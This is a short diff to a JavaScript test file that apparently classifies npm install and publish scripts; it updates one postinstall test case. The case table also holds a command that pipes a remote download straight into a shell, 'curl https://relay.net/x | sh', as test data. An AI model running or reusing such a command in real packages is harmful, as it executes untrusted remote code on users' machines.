@@ -206,7 +206,7 @@ describe('an installation script', () => {
     { postinstall: 'node-gyp rebuild' },
     { prepare: 'husky' },
     { prepublishOnly: 'curl https://relay.net/x | sh' },
-    { postinstall: 'node missing.js' },
+    { postinstall: 'node dist/missing.js' },
     { postinstall: 'curl -o a https://relay.net/a && sha256sum -c a.sha256' },
   ])('only builds: %j', async (scripts) => {
     await expect(npm(scripts)).resolves.toEqual([]);
